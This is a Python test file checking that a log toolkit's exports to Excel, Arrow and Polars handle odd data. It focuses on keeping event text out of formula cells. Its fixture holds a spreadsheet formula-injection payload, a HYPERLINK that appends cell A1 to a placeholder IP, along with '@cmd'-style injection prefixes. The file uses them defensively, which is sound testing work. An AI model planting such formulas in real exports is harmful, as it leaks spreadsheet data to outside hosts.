"""Answers go to Excel, Arrow and Polars by the names that pandas users type."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

import kit
from factories import event
from kit.base.errors import UsageError
from kit.base.frame import Frame

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'


@pytest.fixture
def log(log_of):
    """Failures whose every text is a formula, an error value, or what no sheet holds."""
    app = {"id": "0oaformula", "name": FORMULA}
    return log_of(
        event("2026-10-27T09:05:00.123Z", reason=FORMULA, app=app),
        event("2026-10-27T10:05:00Z", reason="#REF!", user="+1@example.com", app=app),
        event("2026-10-27T11:05:00Z", reason="a\x00b\x0bc", user="@cmd", app=app),
        event("2026-10-27T12:05:00Z", result="SUCCESS", app=app),
    )


def cells(path):
    """All cells of a workbook."""
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_text_of_an_event_is_no_formula_in_a_sheet(log, tmp_path) -> None:
    """Neither when the file is opened nor when a cell is edited."""
    path = tmp_path / "failures.xlsx"
    kit.failures(log).to_excel(path)

    texts = [cell for cell in cells(path) if isinstance(cell.value, str)]
    assert [cell for cell in texts if cell.data_type != "s"] == []
    mine = [cell for cell in texts if cell.value in (FORMULA, "#REF!")]
    assert len(mine) > 3
    assert all(cell.quotePrefix for cell in mine)
    assert "a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}c" in {c.value for c in texts}


def test_times_are_utc_in_a_sheet_and_say_so(log, tmp_path) -> None:
    """They are times, which a sheet can sort and count with."""
    path = tmp_path / "failures.xlsx"
    rows = kit.failures(log)
    rows.to_excel(path)

    back = pd.read_excel(path)
    assert list(back.columns) == list(rows.columns)
    assert back["published"].dt.tz_localize("UTC").tolist() == rows["published"].tolist()
    (first,) = (c for c in cells(path) if str(c.value) == "2026-10-27 09:05:00.123000")
    assert "UTC" in first.number_format


@pytest.mark.parametrize("engine", ["openpyxl"])
def test_every_answer_goes_into_a_sheet(log, tmp_path, engine) -> None:
    """Also what somebody filtered and grouped, into a sheet of an open workbook."""
    answers = {
        "incidents": kit.incidents(log),
        "events": kit.events(log),
        "recovery": kit.recovery(log),
        "states": kit.states(log),
        "episodes": kit.episodes(log),
        "by code": kit.trends(log).by_code,
        "compared": kit.compare(log, compare="1d").rows,
        "grouped": kit.failures(log).groupby("app")[["events"]].sum(),
        "wide": kit.failures(log).pivot_table(
            index="user", columns=["app", "code"], values="events", aggfunc="sum"
        ),
    }
    path = tmp_path / "all.xlsx"
    with pd.ExcelWriter(path, engine=engine) as writer:
        for name, rows in answers.items():
            rows.to_excel(writer, sheet_name=name, index=name in ("grouped", "wide"))

    assert openpyxl.load_workbook(path).sheetnames == list(answers)
    assert [cell for cell in cells(path) if cell.data_type in ("f", "e")] == []


def test_lists_missing_values_and_lengths_go_into_a_sheet(tmp_path) -> None:
    """And times before Excel's calendar."""
    path = tmp_path / "odd.xlsx"
    Frame(
        {
            "left": [["a", "=b"], []],
            "number": pd.array([1, None], "Int64"),
            "took": pd.to_timedelta([90, None], unit="min"),
            "at": pd.to_datetime(["1850-01-01", None], utc=True),
            "long": ["x" * 40_000, None],
        }
    ).to_excel(path)

    heading, first, second = openpyxl.load_workbook(path).active.iter_rows()
    assert [cell.value for cell in heading] == ["left", "number", "took", "at", "long"]
    assert first[0].value == "a, =b"
    assert (first[1].value, second[1].value) == (1, None)
    assert first[2].number_format == "[h]:mm:ss"
    assert first[3].value == "1850-01-01T00:00:00Z"
    assert len(first[4].value) == 32_767


def test_more_rows_than_a_sheet_holds_are_refused_in_one_line(tmp_path) -> None:
    rows = Frame({"n": range(1_048_576)})

    with pytest.raises(UsageError, match=r"1,048,575 rows.*to_parquet"):
        rows.to_excel(tmp_path / "much.xlsx")


def test_a_section_goes_into_a_workbook_with_a_sheet_for_each_table(tmp_path) -> None:
    path = tmp_path / "section.xlsx"
    section = kit.trends_report("sample", since="7d").by_code()
    section.to_excel(path)

    sheets = pd.read_excel(path, sheet_name=None)
    assert [len(rows) for rows in sheets.values()] == [len(one) for one in section.frames]


def test_answers_go_to_arrow_without_their_old_places(log) -> None:
    """By method, and as any library takes them."""
    rows = kit.failures(log)
    picked = rows[rows["app_id"] == "0oaformula"].iloc[1:]

    for table in (picked.to_pyarrow(), pa.table(picked)):
        assert table.column_names == list(rows.columns)
        assert table.num_rows == 2
        assert table.schema.field("published").type == pa.timestamp("us", "UTC")
        assert table.schema.field("http_status").type == pa.int64()
    assert kit.incidents(log).to_pyarrow().schema.field("left").type.value_type == pa.string()
    by_app = rows.groupby("app")[["events"]].sum()
    assert pa.table(by_app).column_names == ["events", "app"]


def test_answers_go_to_polars_where_it_is_installed(log, monkeypatch) -> None:
    """Else a line says how to get it."""
    rows = kit.failures(log)
    try:
        import polars as pl
    except ImportError:
        with pytest.raises(UsageError, match="pip install polars"):
            rows.to_polars()
    else:
        assert rows.to_polars().columns == list(rows.columns)
        assert pl.DataFrame(rows.iloc[1:]).columns == list(rows.columns)
